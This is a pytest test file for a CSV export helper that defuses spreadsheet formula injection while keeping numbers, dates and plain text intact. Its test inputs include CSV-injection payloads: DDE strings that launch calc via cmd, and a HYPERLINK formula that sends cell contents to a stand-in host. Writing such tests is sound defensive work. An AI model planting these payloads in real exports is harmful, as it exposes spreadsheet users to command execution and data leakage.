"""CSV: formulas out of strangers' hands become text; numbers, dates and ordinary words stay what they are."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest

from outreach_site.lib.csv import lines, neutralised


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.test?"&A1,"Look")',
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\xa0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＋1",
        "＠SUM(1)",
        "+49 30 1234567",
        "- a list",
        "@handle",
        "\ttab",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a;=1+1", "a;'=1+1"),
        ('a";=1+1', "a\";'=1+1"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a;-2+3", "a;'-2+3"),
        ("a;+cmd|x", "a;'+cmd|x"),
        ("\t=1+1", "'\t'=1+1"),
        (";=1+1", ";'=1+1"),
    ],
)
def test_a_formula_behind_another_countrys_separator(text: str, kept: str) -> None:
    assert neutralised(text) == kept


@pytest.mark.parametrize(
    "text",
    [
        "ed@brightgarden.test",
        "A link for your garden page",
        "“Größe” — schön",
        "a = b",
        "1 - 2",
        "thanks ;-)",
        "one; two; three",
        "<tag>",
        "-5",
        "+3",
        "-12.5",
        "-1,234.50",
        "1e-9",
        "-3%",
        "2026-03-10",
        "'quoted'",
        "",
        "日本語",
        "☎ 030",
    ],
)
def test_numbers_and_ordinary_words_stay(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (Decimal("-1.20"), "-1.20"),
        (date(2026, 3, 10), "2026-03-10"),
        (datetime(2026, 3, 10, 9, 30, tzinfo=UTC), "2026-03-10T09:30:00Z"),
        ("a\0b", "ab"),
    ],
)
def test_values_have_one_form(value: Any, text: str) -> None:
    assert neutralised(value) == text


def test_what_was_written_can_be_read() -> None:
    rows: list[list[Any]] = [["plain", 'with "quotes"', "a, b"], ["two\nlines", "=1", -7], ["", None, True]]
    text = b"".join(lines(("a", "b", "c"), rows)).decode()
    assert text.startswith('"a","b","c"\r\n"plain",')
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b", "c"],
        ["plain", 'with "quotes"', "a, b"],
        ["two\nlines", "'=1", "-7"],
        ["", "", "true"],
    ]


def test_no_rows_are_a_header() -> None:
    assert b"".join(lines(("a", "b"), [])) == b'"a","b"\r\n'


def test_it_never_holds_all() -> None:
    """A piece goes out long before the last row is made."""
    made = 0

    def rows() -> Iterator[list[str]]:
        nonlocal made
        for _ in range(10_000):
            made += 1
            yield ["x" * 100]

    pieces = lines(("a",), rows(), at_once=50)
    first = next(pieces)
    assert made < 100
    assert len(first) < 10_000
    assert sum(map(len, pieces)) + len(first) == 10_000 * 104 + 5
